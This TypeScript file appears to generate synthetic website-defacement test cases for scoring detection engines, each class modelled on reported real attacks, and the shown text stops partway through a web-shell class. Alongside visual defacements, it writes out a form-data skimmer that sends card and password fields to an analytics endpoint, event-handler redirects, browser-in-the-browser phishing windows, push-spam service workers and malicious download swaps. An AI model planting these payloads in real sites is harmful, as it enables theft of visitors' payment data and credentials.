/**
 * Fresh defacement classes: written after round 1 (the engines tuned on the
 * tuning half, the reporting half seen once), by someone who does not read
 * the engines, from public descriptions of real defacements, web skimming,
 * scams and takeovers. Each differs from every class in defacements.ts (not
 * a re-wording of one) and varies its templates, languages, domains and
 * positions like them. Scored in the `fresh` group, never tuned on.
 */
import { type ChangeClass, attrTargets, resolve, setAttr, shown } from "./classes.js"
import { type Page, loadCorpus, makeWallet } from "./corpus.js"
import { b64, jsUrl, links, scriptTag, style } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import type { Lang } from "./locales.js"
import { type Rng, alnum, between, chance, digits, int, pick, sample } from "./rng.js"
import { boast, brandLookalike, nick, political, randomDomain, team } from "./words.js"

const fresh = (name: string, make: (page: Page, rng: Rng) => Change, wholePage = false): ChangeClass =>
  wholePage ? { name, kind: "defacement", group: "fresh", make, wholePage } : { name, kind: "defacement", group: "fresh", make }

const top = (page: Page) => page.spots.bodyOpenEnd
const head = (page: Page) => page.spots.headClose
const bottom = (page: Page) => page.spots.bodyClose
const lang = (page: Page): Lang => page.site.locale.lang
/** The site's language most of the time (attackers who target a site often write in its language), else English. */
const siteOr = <A>(rng: Rng, page: Page, table: Record<Lang, A>): A => table[chance(rng, 0.7) ? lang(page) : "en"]

const hostIp = (rng: Rng) => `${between(rng, 23, 223)}.${between(rng, 0, 255)}.${between(rng, 0, 255)}.${between(rng, 1, 254)}`

// Compromised-plugin reports (Sucuri, Wordfence): a backdoored announcement-bar plugin tells visitors the site "has moved" to another domain.
const movedNotice = fresh("'we have moved' notice bar pointing to a new domain", (page, rng) => {
  const host = pick(rng, [brandLookalike(rng, page.site.brand), `${page.site.brand}-${pick(rng, ["new", "official", "online", "store", "global"])}.${pick(rng, ["com", "net", "shop", "site", "online"])}`, randomDomain(rng)])
  const url = `https://${host}/${pick(rng, ["", "?from=" + page.site.brand, "welcome", "home"])}`
  const [lead, text, cta] = siteOr(rng, page, {
    en: ["Important notice", "We have moved! Our old website is no longer maintained — please visit our new website.", "Go to the new site"],
    fr: ["Avis important", "Nous avons déménagé ! Ce site n'est plus mis à jour, rendez-vous sur notre nouveau site.", "Accéder au nouveau site"],
    de: ["Wichtiger Hinweis", "Wir sind umgezogen! Diese Website wird nicht mehr gepflegt, bitte besuchen Sie unsere neue Website.", "Zur neuen Website"],
    es: ["Aviso importante", "¡Nos hemos mudado! Esta web ya no se actualiza, visite nuestro nuevo sitio.", "Ir al nuevo sitio"],
    nl: ["Belangrijke mededeling", "Wij zijn verhuisd! Deze website wordt niet meer bijgewerkt, bezoek onze nieuwe website.", "Naar de nieuwe site"],
    pt: ["Aviso importante", "Mudamos de endereço! Este site não é mais atualizado, acesse nosso novo site.", "Acessar o novo site"],
    it: ["Avviso importante", "Ci siamo trasferiti! Questo sito non è più aggiornato, visita il nostro nuovo sito.", "Vai al nuovo sito"]
  })
  const bar = pick(rng, [
    `<div class="${pick(rng, ["announcement-bar", "wpfront-notification-bar", "hellobar", "notice-top"])}" style="position:${pick(rng, ["sticky", "fixed", "relative"])};top:0;left:0;right:0;z-index:${between(rng, 999, 99999)};background:${pick(rng, ["#ffcc00", "#d32f2f", "#0d47a1", "#222"])};color:${pick(rng, ["#000", "#fff"])};text-align:center;padding:10px"><strong>${lead}:</strong> ${text} <a href="${url}">${cta} →</a></div>`,
    `<aside role="alert" class="site-notice"><p><b>${lead}</b> — ${text}</p><p><a class="button" href="${url}">${cta}</a></p></aside>`,
    `<p class="notice" style="background:#fff3cd;border:1px solid #ffeeba;padding:12px;margin:0">${text} <a href="${url}" target="_blank" rel="noopener">${host}</a></p>`
  ])
  return splices(insert(chance(rng, 0.75) ? top(page) : bottom(page), bar))
})

// Hacked news sites and broadcasters (e.g. the 2017 Qatar News Agency hack, hijacked TV news tickers): fabricated "breaking" headlines in a ticker.
const fakeTicker = fresh("fabricated breaking-news ticker", (page, rng) => {
  const heads = siteOr(rng, page, {
    en: ["President announces immediate resignation", "Central bank freezes all withdrawals from Monday", "Army ordered to evacuate the capital", "Government confirms nuclear plant leak", "All flights cancelled indefinitely", "Prime minister arrested at the airport"],
    fr: ["Le président annonce sa démission immédiate", "La banque centrale gèle tous les retraits dès lundi", "Évacuation ordonnée dans la capitale", "Le gouvernement confirme une fuite à la centrale"],
    de: ["Präsident kündigt sofortigen Rücktritt an", "Zentralbank stoppt ab Montag alle Abhebungen", "Evakuierung der Hauptstadt angeordnet", "Regierung bestätigt Leck im Atomkraftwerk"],
    es: ["El presidente anuncia su dimisión inmediata", "El banco central congela todos los retiros desde el lunes", "Ordenan evacuar la capital"],
    nl: ["President kondigt onmiddellijk aftreden aan", "Centrale bank bevriest vanaf maandag alle opnames", "Evacuatie van de hoofdstad bevolen"],
    pt: ["Presidente anuncia renúncia imediata", "Banco central congela todos os saques a partir de segunda", "Governo ordena evacuação da capital"],
    it: ["Il presidente annuncia le dimissioni immediate", "La banca centrale blocca tutti i prelievi da lunedì", "Ordinata l'evacuazione della capitale"]
  })
  const label = pick(rng, ["BREAKING", "BREAKING NEWS", "URGENT", "LIVE", "ÚLTIMA HORA", "EILMELDUNG", "FLASH", "ULTIM'ORA"])
  const items = sample(rng, heads, between(rng, 2, Math.min(4, heads.length)))
  const sep = pick(rng, [" • ", " — ", " | ", " ◆ "])
  const anim = `t${alnum(rng, 4)}`
  const css = style(rng, `@keyframes ${anim}{from{transform:translateX(100%)}to{transform:translateX(-100%)}}.${anim}{display:inline-block;white-space:nowrap;animation:${anim} ${between(rng, 15, 40)}s linear infinite}`)
  const own = chance(rng, 0.5) ? `<a href="/${pick(rng, ["news", "live", "breaking"])}/${alnum(rng, 8)}">` : ""
  const ticker = `<div class="${pick(rng, ["ticker", "breaking-bar", "news-ticker"])}" style="background:${pick(rng, ["#c00", "#b71c1c", "#000"])};color:#fff;overflow:hidden;padding:6px 0"><strong style="padding:0 12px">${label}</strong><span class="${anim}">${own}${items.map(esc).join(sep)}${own === "" ? "" : "</a>"}</span></div>`
  return splices(insert(head(page), css), insert(chance(rng, 0.7) ? top(page) : slotAt(page.spots, "top"), ticker))
})

const fileLink = /\.(pdf|zip|exe|dmg|msi|apk|iso|docx?|xlsx?|pptx?|rar|7z|pkg)(?:[?#]|$)/i

// Linux Mint (February 2016) and similar hijacked-download reports: the download link now fetches a backdoored file from another server.
const downloadSwap = fresh("download link swapped to a malicious file", (page, rng) => {
  const name = pick(rng, [`${page.site.brand}-setup`, "invoice", "brochure-2026", "report", "catalogue", "installer", alnum(rng, 8)])
  const file = `${name}${pick(rng, [".exe", ".msi", ".zip", ".pdf.exe", ".scr", ".apk", ".iso", ".js", ".docm"])}`
  const url = pick(rng, [
    `http://${hostIp(rng)}/${pick(rng, ["", "files/", "dl/"])}${file}`,
    `https://${randomDomain(rng)}/${pick(rng, ["download", "get", "files"])}/${file}`,
    `https://cdn.discordapp.com/attachments/${digits(rng, 18)}/${digits(rng, 18)}/${file}`,
    `https://bitbucket.org/${alnum(rng, 8)}/${alnum(rng, 6)}/downloads/${file}`,
    `https://${brandLookalike(rng, page.site.brand)}/${file}`
  ])
  const existing = attrTargets(page, links(page), "href").filter((t) => fileLink.test(page.html.slice(t.value.start, t.value.end)))
  if (existing.length > 0 && chance(rng, 0.8)) return splices(...sample(rng, existing, between(rng, 1, 3)).map((t) => replace(t.value, url)))
  const label = siteOr(rng, page, {
    en: pick(rng, ["Download our app", "Download the brochure (PDF)", "Download the latest version", "Get the report"]),
    fr: pick(rng, ["Télécharger l'application", "Télécharger la brochure (PDF)", "Télécharger la dernière version"]),
    de: pick(rng, ["App herunterladen", "Broschüre herunterladen (PDF)", "Neueste Version herunterladen"]),
    es: pick(rng, ["Descargar la aplicación", "Descargar el folleto (PDF)"]),
    nl: pick(rng, ["Download onze app", "Download de brochure (PDF)"]),
    pt: pick(rng, ["Baixe nosso aplicativo", "Baixar o catálogo (PDF)"]),
    it: pick(rng, ["Scarica la nostra app", "Scarica la brochure (PDF)"])
  })
  const a = pick(rng, [
    `<p class="download"><a href="${url}" download>${label}</a></p>`,
    `<div class="cta"><a class="btn btn-primary" href="${url}">${label}</a></div>`,
    `<a href="${url}" style="display:inline-block;background:#2e7d32;color:#fff;padding:10px 18px">⬇ ${label}</a>`
  ])
  return splices(insert(anySlot(rng, page.spots), a))
})

// SEO-spam and malvertising clean-up guides: links routed through a redirector (a traffic-distribution script) that keeps the original URL in its query.
const redirectorWrap = fresh("links routed through a redirector that keeps the original URL", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${pick(rng, ["go", "out", "l", "r", "click"])}.${randomDomain(rng)}`])
  const path = pick(rng, ["redirect.php?url=", "go?to=", "r/?u=", "out?link=", "click.php?dest=", "away?target="])
  const all = attrTargets(page, links(page), "href")
  const social = all.filter((t) => page.ids.social.some((s) => s.href === page.html.slice(t.value.start, t.value.end)))
  const chosen = pick(rng, [() => social, () => sample(rng, all, Math.max(1, Math.ceil(all.length / 3))), () => all])()
  const targets = chosen.length > 0 ? chosen : all
  return splices(...targets.map((t) => {
    const original = resolve(page, page.html.slice(t.value.start, t.value.end))?.href ?? page.site.url
    return replace(t.value, esc(`https://${host}/${path}${encodeURIComponent(original)}${chance(rng, 0.3) ? `&sid=${alnum(rng, 6)}` : ""}`))
  }))
})

// Fake-donation reports on hijacked charity and news sites (war and disaster appeals): an urgent appeal whose button pays someone else.
const donationAppeal = fresh("urgent donation appeal to a new payment page", (page, rng) => {
  const brand = page.site.brand
  const url = pick(rng, [
    `https://${brand}-donate.${pick(rng, ["org", "com", "help", "online"])}/${pick(rng, ["", "give", "appeal"])}`,
    `https://donate-${alnum(rng, 5)}.${pick(rng, ["org", "net", "site"])}/${brand}`,
    `https://www.paypal.com/donate/?hosted_button_id=${alnum(rng, 13).toUpperCase()}`,
    `https://buy.stripe.com/${alnum(rng, 20)}`,
    `https://${randomDomain(rng)}/pay?campaign=${brand}`
  ])
  const [h, p, b] = siteOr(rng, page, {
    en: [pick(rng, ["Urgent appeal", "Emergency fundraiser", "Help the victims now"]), "Every donation goes directly to families affected by the disaster. Please give what you can today.", "Donate now"],
    fr: ["Appel d'urgence", "Chaque don va directement aux familles touchées. Donnez ce que vous pouvez dès aujourd'hui.", "Faire un don"],
    de: ["Dringender Spendenaufruf", "Jede Spende geht direkt an die betroffenen Familien. Bitte helfen Sie noch heute.", "Jetzt spenden"],
    es: ["Llamamiento urgente", "Cada donación llega directamente a las familias afectadas. Done hoy lo que pueda.", "Donar ahora"],
    nl: ["Dringende oproep", "Elke gift gaat rechtstreeks naar de getroffen gezinnen. Geef vandaag nog.", "Doneer nu"],
    pt: ["Apelo urgente", "Cada doação vai diretamente para as famílias atingidas. Doe hoje o que puder.", "Doe agora"],
    it: ["Appello urgente", "Ogni donazione va direttamente alle famiglie colpite. Dona oggi quello che puoi.", "Dona ora"]
  })
  const qr = chance(rng, 0.3) ? `<img src="https://api.qrserver.com/v1/create-qr-code/?size=150x150&amp;data=${encodeURIComponent(url)}" alt="QR">` : ""
  const box = pick(rng, [
    `<section class="appeal" style="border:3px solid #c62828;padding:16px;margin:12px 0"><h2>${h}</h2><p>${p}</p>${qr}<a class="donate-button" href="${esc(url)}" style="background:#c62828;color:#fff;padding:10px 20px">${b}</a></section>`,
    `<div style="position:fixed;bottom:0;left:0;right:0;background:#fffde7;z-index:9999;padding:12px;text-align:center"><b>${h}:</b> ${p} <a href="${esc(url)}">${b} →</a></div>`,
    `<div class="donate-banner"><h3>❤ ${h}</h3><p>${p}</p><p><a href="${esc(url)}" target="_blank">${b}</a></p>${qr}</div>`
  ])
  return splices(insert(pick(rng, [top(page), top(page), anySlot(rng, page.spots), bottom(page)]), box))
})

// cPanel's default "Account Suspended" page (suspendedpage.cgi) and copies of it on taken-over sites: the content gone, a provider notice in its place.
const accountSuspended = fresh("'account suspended' notice in place of the content", (page, rng) => {
  const notice = pick(rng, [
    `<div style="text-align:center;margin-top:15%;font-family:Arial,sans-serif"><h1>Account Suspended</h1><p>This Account has been suspended.</p><p>Contact your hosting provider for more information.</p></div>`,
    `<h1>This account has been suspended.</h1><p>Either the domain has been overused, or was reported for a violation of the Terms of Service.</p><hr><address>${esc(page.site.host)}</address>`,
    `<center><img src="/cgi-sys/images/404top_w.jpg" alt=""><h2>Website Suspended</h2><p>The website you are trying to reach is currently unavailable.</p></center>`,
    (([h, p]) => `<div class="suspended"><h1>${h}</h1><p>${p}</p></div>`)(pick(rng, [["Compte suspendu", "Ce site a été suspendu."], ["Konto gesperrt", "Diese Website wurde gesperrt."], ["Cuenta suspendida", "Este sitio ha sido suspendido."], ["Account sospeso", "Questo sito è stato sospeso."], ["Conta suspensa", "Este site foi suspenso."]] as const))
  ])
  const out: Array<Splice> = [replace({ start: top(page), end: bottom(page) }, notice)]
  const t = page.spots.title
  if (t !== null && chance(rng, 0.6)) out.push(replace(t, pick(rng, ["Account Suspended", "Suspended", "Website Suspended"])))
  return { splices: out }
}, true)

// Expired-domain and domain-takeover reports: the site replaced by a registrar's parking page ("this domain may be for sale", related-search links).
const parkedDomain = fresh("parked 'domain for sale' page", (page, rng) => {
  const host = page.site.host.replace(/^www\./, "")
  const market = pick(rng, ["sedo.com/search/details/?domain=", "dan.com/buy-domain/", "www.afternic.com/domain/", "www.hugedomains.com/domain_profile.cfm?d="])
  const parker = pick(rng, ["parkingcrew.net", "bodis.com", "above.com", "parklogic.com", randomDomain(rng)])
  const topics = sample(rng, ["Online Courses", "Cheap Flights", "Car Insurance", "Best Credit Cards", "Web Hosting", "Dating Sites", "Home Loans", "Free Games", "VPN Service", "Used Cars"], between(rng, 4, 8))
  const related = topics.map((t) => `<li><a href="https://${parker}/search?q=${encodeURIComponent(t)}&amp;d=${host}">${t}</a></li>`).join("")
  const lander = chance(rng, 0.6) ? `<script src="https://${parker}/${pick(rng, ["lander.js", "js/park.js", "p.js"])}"></script>` : ""
  const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${esc(host)}${pick(rng, [" - This domain may be for sale!", " is for sale", " | Domain parked", ""])}</title>${lander}</head><body style="font-family:${pick(rng, ["Arial", "Helvetica", "sans-serif"])}"><h1>${esc(host)}</h1><p>${pick(rng, ["This domain may be for sale!", "The domain owner is offering this domain for sale.", "Buy this domain.", "This domain has expired."])}</p><p><a href="https://${market}${host}">${pick(rng, ["Buy now", "Make an offer", "Inquire now"])}</a></p><h2>${pick(rng, ["Related searches", "Related links", "Sponsored listings"])}</h2><ul>${related}</ul><p><small>© 2026 ${esc(host)}. All rights reserved.</small></p></body></html>`
  return { html }
}, true)

const flags = ["🇵🇸", "🇮🇩", "🇹🇷", "🇵🇰", "🇷🇺", "🇺🇦", "🇮🇷", "🇧🇩", "🇲🇦", "🇩🇿", "🇸🇾", "🇮🇶"]

// Recent hacktivist defacements on defacement mirrors: slogans made mostly of flags and emoji, with few or no words.
const emojiSlogan = fresh("emoji and flag slogan", (page, rng) => {
  const f = pick(rng, flags)
  const rep = (s: string, n: number) => Array.from({ length: n }, () => s).join("")
  const line = pick(rng, [
    `${rep(f, between(rng, 3, 7))} ✊🔥 ${pick(rng, ["FREE", "#FREE", "🆓", "✌"])} 🔥✊ ${rep(f, between(rng, 3, 7))}`,
    `💀💀💀 ${pick(rng, ["0WN3D", "PWN", "GG", "☠"])} 💀💀💀 ${rep("👁️", between(rng, 2, 5))}`,
    `🏴‍☠️🏴‍☠️ ${pick(rng, ["WE SEE YOU", "👀👀👀", "🤡🤡🤡", "😈😈😈"])} 🏴‍☠️🏴‍☠️ ${f}${f}`,
    `${rep("🚨", between(rng, 3, 6))} ${f} ${rep("💣", between(rng, 2, 4))} ${f} ${rep("🚨", between(rng, 3, 6))}`,
    `${f}❤️${f}❤️${f} ${pick(rng, ["🙏", "✌️", "🕊️"])} ${pick(rng, ["#", "@"])}${nick(rng).replace(/[^A-Za-z0-9_]/g, "")} ${f}❤️${f}`
  ])
  const el = pick(rng, [
    `<h1 style="text-align:center;font-size:${between(rng, 40, 96)}px">${line}</h1>`,
    `<div style="font-size:${between(rng, 30, 80)}px;text-align:center;padding:20px">${line}</div>`,
    `<p><big>${line}</big></p>`,
    `<center><font size="7">${line}</font></center>`
  ])
  return splices(insert(pick(rng, [top(page), top(page), anySlot(rng, page.spots)]), el))
})

// Wiper attacks and defacements that delete the site's files (e.g. the January 2022 attacks on Ukrainian government sites): the server's default or error page, served with status 200.
const serverDefault = fresh("web server default or error page served instead", (page, rng) => {
  const files = ["index.php.bak", "shell.php", "wp-config.php.old", ".htaccess", "up.php", "README.txt", "x.php", "cgi-bin/"]
  const html = pick(rng, [
    () => `<!DOCTYPE html><html><head><title>Welcome to nginx!</title><style>body{width:35em;margin:0 auto;font-family:Tahoma,Verdana,Arial,sans-serif}</style></head><body><h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed and working. Further configuration is required.</p><p><em>Thank you for using nginx.</em></p></body></html>`,
    () => `<html><body><h1>It works!</h1></body></html>`,
    () => `<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr><center>nginx/1.${between(rng, 14, 27)}.${between(rng, 0, 9)}</center></body></html>`,
    () => `<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"><html><head><title>403 Forbidden</title></head><body><h1>Forbidden</h1><p>You don't have permission to access this resource.</p><hr><address>Apache/2.4.${between(rng, 29, 62)} (${pick(rng, ["Ubuntu", "Debian", "CentOS"])}) Server at ${esc(page.site.host)} Port 443</address></body></html>`,
    () => `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN"><html><head><title>Index of /</title></head><body><h1>Index of /</h1><table><tr><th>Name</th><th>Last modified</th><th>Size</th></tr>${sample(rng, files, between(rng, 2, 6)).map((f) => `<tr><td><a href="${f}">${f}</a></td><td>2026-${String(between(rng, 1, 12)).padStart(2, "0")}-${String(between(rng, 1, 28)).padStart(2, "0")} ${String(between(rng, 0, 23)).padStart(2, "0")}:${String(between(rng, 0, 59)).padStart(2, "0")}</td><td>${between(rng, 1, 90)}K</td></tr>`).join("")}</table><address>Apache Server at ${esc(page.site.host)} Port 80</address></body></html>`,
    () => `<!DOCTYPE html><html><head><title>IIS Windows Server</title></head><body><div id="container"><a href="https://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409"><img src="iisstart.png" alt="IIS" width="960" height="600"></a></div></body></html>`
  ])()
  return { html }
}, true)

// SEO-spam clean-up guides (keywords stuffed into alt and title attributes) and defacements of the accessibility layer that screen readers read out.
const altDefaced = fresh("image alt and aria-label text defaced", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const text = () => pick(rng, [
    `${pick(rng, ["Hacked", "Owned", "Defaced"])} by ${who}`,
    boast(rng).text,
    political(rng).text,
    `${pick(rng, ["buy viagra online", "slot gacor hari ini", "best online casino bonus", "cheap replica watches", "judi bola terpercaya"])} ${pick(rng, ["2026", "cheap", "free", "no prescription"])}`
  ])
  const imgs = shown(page, "img")
  const labelled = page.spots.elements.filter((e) => e.shown && (e.attribs["aria-label"] !== undefined || e.attribs.title !== undefined) && e.name !== "img")
  const out: Array<Splice> = []
  for (const el of sample(rng, imgs, Math.min(imgs.length, between(rng, 1, 10)))) out.push(setAttr(page, el, "alt", text()))
  for (const el of sample(rng, labelled, Math.min(labelled.length, between(rng, 0, 4)))) out.push(setAttr(page, el, el.attribs["aria-label"] !== undefined ? "aria-label" : "title", text()))
  if (out.length === 0) {
    const ls = sample(rng, links(page), between(rng, 1, 6))
    for (const el of ls) out.push(setAttr(page, el, pick(rng, ["title", "aria-label"]), text()))
  }
  return { splices: out }
})

// Defacements drawn as an SVG banner: the message sits in <svg><text> (inline or as a data: image), not in the page's text nodes.
const svgBanner = fresh("defacement drawn in an inline SVG", (page, rng) => {
  const who = nick(rng)
  const msg = esc(pick(rng, [`Hacked by ${who}`, boast(rng).text, political(rng).text, `${team(rng)} ${pick(rng, ["was here", "2026", "owns you"])}`]))
  const h = between(rng, 120, 400)
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="${h}" viewBox="0 0 1200 ${h}"><rect width="1200" height="${h}" fill="${pick(rng, ["#000", "#111", "#8b0000", "#002"])}"/><text x="600" y="${Math.round(h / 2)}" text-anchor="middle" dominant-baseline="middle" fill="${pick(rng, ["#0f0", "red", "#fff", "yellow"])}" font-family="monospace" font-size="${between(rng, 28, 64)}">${msg}</text>${chance(rng, 0.5) ? `<text x="600" y="${h - 20}" text-anchor="middle" fill="#888" font-size="16">${esc(pick(rng, [who, team(rng)]))}</text>` : ""}</svg>`
  const el = pick(rng, [
    () => svg,
    () => `<div style="position:fixed;top:0;left:0;width:100%;z-index:99999">${svg}</div>`,
    () => `<img src="data:image/svg+xml;base64,${b64(svg)}" style="width:100%" alt="">`
  ])()
  return splices(insert(pick(rng, [top(page), top(page), anySlot(rng, page.spots)]), el))
})

// Hijacked streaming and news sites (e.g. 2022 reports of Russian TV and streaming sites showing war footage): the page's video swapped, or an autoplaying one added.
const videoSwap = fresh("video or embed swapped to propaganda", (page, rng) => {
  const yt = `https://www.youtube.com/embed/${alnum(rng, 11)}?autoplay=1&mute=${int(rng, 2)}`
  const mp4 = `https://${randomDomain(rng)}/${pick(rng, ["video", "media", "v"])}/${alnum(rng, 8)}.mp4`
  const src = chance(rng, 0.5) ? yt : mp4
  const players = attrTargets(page, page.spots.elements.filter((e) => ["iframe", "video", "source", "embed"].includes(e.name) && e.inBody && !e.inert), "src")
  if (players.length > 0 && chance(rng, 0.6)) return splices(...players.slice(0, between(rng, 1, 2)).map((t) => replace(t.value, esc(src))))
  const caption = chance(rng, 0.6) ? `<p>${esc(political(rng).text)}</p>` : ""
  const player = src === yt
    ? `<iframe width="${pick(rng, ["560", "100%", "800"])}" height="${pick(rng, ["315", "450"])}" src="${esc(yt)}" frameborder="0" allow="autoplay; encrypted-media" allowfullscreen></iframe>`
    : `<video autoplay ${pick(rng, ["muted", ""])} loop playsinline src="${mp4}" style="width:100%"></video>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), `<div class="${pick(rng, ["video", "featured-video", "player"])}">${player}${caption}</div>`))
})

// mr.d0x's "browser in the browser" technique (2022), as used by phishing campaigns: a fake sign-in pop-up window with a fake address bar, its content framed from the attacker.
const browserInBrowser = fresh("browser-in-the-browser sign-in window", (page, rng) => {
  const [provider, fakeUrl, title] = pick(rng, [
    ["Google", "https://accounts.google.com/signin/v2/identifier?flowName=GlifWebSignIn", "Sign in – Google accounts"],
    ["Microsoft", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize", "Sign in to your account"],
    ["Facebook", "https://www.facebook.com/login.php?skip_api_login=1", "Log in to Facebook"],
    ["Apple", "https://appleid.apple.com/auth/authorize", "Sign in with Apple ID"],
    ["Steam", "https://steamcommunity.com/openid/login", "Steam Community :: Sign In"]
  ] as const)
  const frame = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${provider.toLowerCase()}-${pick(rng, ["auth", "login", "verify"])}.${pick(rng, ["com", "net", "app", "site"])}`])}/${pick(rng, ["login", "oauth", "signin/index.html", alnum(rng, 6)])}`
  const hidden = chance(rng, 0.25)
  const id = `w${alnum(rng, 5)}`
  const win = `<div id="${id}" style="position:fixed;top:${between(rng, 5, 20)}%;left:50%;transform:translateX(-50%);width:${between(rng, 420, 520)}px;z-index:${pick(rng, ["99999", "2147483647"])};background:#fff;box-shadow:0 10px 40px rgba(0,0,0,.5);border-radius:8px${hidden ? ";display:none" : ""}"><div style="background:#f1f3f4;padding:6px 10px;font:13px sans-serif"><span>🔒 ${title}</span><div style="background:#fff;border-radius:12px;padding:3px 8px;margin-top:4px;color:#188038">${esc(fakeUrl)}</div></div><iframe src="${frame}" width="100%" height="${between(rng, 420, 560)}" frameborder="0"></iframe></div>`
  const trigger = hidden ? `<button onclick="document.getElementById('${id}').style.display='block'">${pick(rng, [`Sign in with ${provider}`, `Continue with ${provider}`])}</button>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), trigger + win))
})

// Kaspersky (June 2020): skimmers on online shops sent stolen form data to Google Analytics under the attackers' tracking ID, a domain the shops already allowed.
const analyticsSkimmer = fresh("skimmer exfiltrating through an analytics endpoint", (page, rng) => {
  const ua = chance(rng, 0.5) ? `UA-${digits(rng, 8)}-${between(rng, 1, 3)}` : `G-${alnum(rng, 10).toUpperCase()}`
  const collect = `var d=[];[].forEach.call(document.querySelectorAll("input,select"),function(i){if(i.value&&i.type!="hidden")d.push(i.name+"="+i.value)});`
  const send = pick(rng, [
    `new Image().src="https://www.google-analytics.com/collect?v=1&tid=${ua}&cid=${digits(rng, 9)}&t=event&ec=${pick(rng, ["checkout", "cart", "ux"])}&ea="+encodeURIComponent(btoa(d.join("&")))`,
    `navigator.sendBeacon("https://www.google-analytics.com/g/collect?v=2&tid=${ua}&en=${pick(rng, ["page_view", "scroll", "form_start"])}&ep.data="+encodeURIComponent(btoa(d.join("&"))))`,
    `ga("send","event",{eventCategory:"${pick(rng, ["Checkout", "Form", "Engagement"])}",eventAction:btoa(d.join("&")),nonInteraction:true})`
  ])
  const loader = send.startsWith("ga(")
    ? `(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create','${ua}','auto');`
    : ""
  const hook = pick(rng, [
    `document.addEventListener("submit",function(){${collect}${send}},true);`,
    `window.addEventListener("beforeunload",function(){${collect}if(d.length)${send}});`,
    `document.addEventListener("change",function(e){if(/card|cc|cvv|cvc|exp|pass/i.test(e.target.name||"")){${collect}${send}}});`
  ])
  const code = chance(rng, 0.3) ? `eval(atob("${b64(hook)}"))` : hook
  return splices(insert(pick(rng, [head(page), bottom(page), top(page)]), `<script>${loader}${code}</script>`))
})

// Push-notification spam on hacked sites (Malwarebytes, Sucuri): "click Allow to confirm you are not a robot", with a service worker registered for the push network.
const pushServiceWorker = fresh("service worker registered for push-notification spam", (page, rng) => {
  const net = randomDomain(rng)
  const sw = pick(rng, ["/sw.js", "/service-worker.js", `/wp-content/uploads/${alnum(rng, 6)}/sw.js`, `/${alnum(rng, 8)}.js`, "/firebase-messaging-sw.js"])
  const reg = `if("serviceWorker" in navigator){navigator.serviceWorker.register("${sw}${chance(rng, 0.6) ? `?z=${digits(rng, 7)}&d=${net}` : ""}").then(function(r){Notification.requestPermission()})}`
  const remote = chance(rng, 0.6) ? scriptTag(rng, `https://${net}/${pick(rng, ["pfe/current/tag.min.js", "push.js", "sdk/notify.js", alnum(rng, 6) + ".js"])}?z=${digits(rng, 7)}`) : ""
  const [h, p] = pick(rng, [
    ["Click «Allow» to confirm that you are not a robot", "Press Allow to continue"],
    ["Click Allow to watch the video", "Your file is ready to download"],
    ["Cliquez sur « Autoriser » pour confirmer que vous n'êtes pas un robot", "Appuyez sur Autoriser pour continuer"],
    ["Klicken Sie auf „Zulassen“, um zu bestätigen, dass Sie kein Roboter sind", "Drücken Sie Zulassen"],
    ["Haga clic en «Permitir» para confirmar que no es un robot", "Pulse Permitir para continuar"]
  ] as const)
  const prompt = chance(rng, 0.7) ? `<div style="position:fixed;inset:0;background:rgba(0,0,0,.85);color:#fff;z-index:2147483647;text-align:center;padding-top:20vh"><h1>${esc(h)}</h1><p>${esc(p)}</p></div>` : ""
  return splices(insert(pick(rng, [head(page), bottom(page)]), `${remote}<script>${reg}</script>`), ...(prompt === "" ? [] : [insert(top(page), prompt)]))
})

// Malicious-redirect clean-ups where the redirect hides in an event-handler attribute (onload, onerror, onmouseover, onclick) instead of a script tag.
const eventHandlerRedirect = fresh("redirect hidden in an event-handler attribute", (page, rng) => {
  const url = jsUrl(rng, `https://${randomDomain(rng)}/${pick(rng, ["", "?r=" + alnum(rng, 6), "go/" + alnum(rng, 5)])}`)
  const go = pick(rng, [`window.location=${url}`, `top.location.href=${url}`, `location.replace(${url})`, `setTimeout(function(){location.href=${url}},${between(rng, 100, 3000)})`])
  const body = page.spots.elements.find((e) => e.name === "body" && !e.inert)
  const imgs = shown(page, "img")
  const ls = links(page)
  const where = int(rng, 4)
  if (where === 0 && body !== undefined) return splices(setAttr(page, body, pick(rng, ["onload", "onpageshow"]), go))
  if (where === 1 && imgs.length > 0) return splices(setAttr(page, pick(rng, imgs), pick(rng, ["onload", "onmouseover"]), go))
  if (where === 2 && ls.length > 0) return splices(...sample(rng, ls, between(rng, 1, 5)).map((a) => setAttr(page, a, pick(rng, ["onclick", "onmousedown", "onmouseover"]), `${go};return false`)))
  const tag = pick(rng, [
    `<img src="${pick(rng, ["x", "/x.gif", "data:,", "#"])}" style="display:none" onerror="${esc(go)}">`,
    `<svg onload="${esc(go)}" width="0" height="0"></svg>`,
    `<input autofocus onfocus="${esc(go)}" style="opacity:0;position:absolute;width:1px">`,
    `<details open ontoggle="${esc(go)}" style="display:none"></details>`
  ])
  return splices(insert(anySlot(rng, page.spots), tag))
})

// Incident write-ups where index.php was overwritten by an uploaded web shell (WSO, b374k, IndoXploit, Alfa, mini shells): a password prompt or a file manager.
const webShell = fresh("index replaced by a web shell", (page, rng) => {
  const name = pick(rng, ["WSO 2.5", "WSO 4.2.5", "b374k 3.2.3", "IndoXploit Shell", "ALFA TEaM Shell v4.1", "Mini Shell", "Marijuana Shell", "0byt3m1n1"])
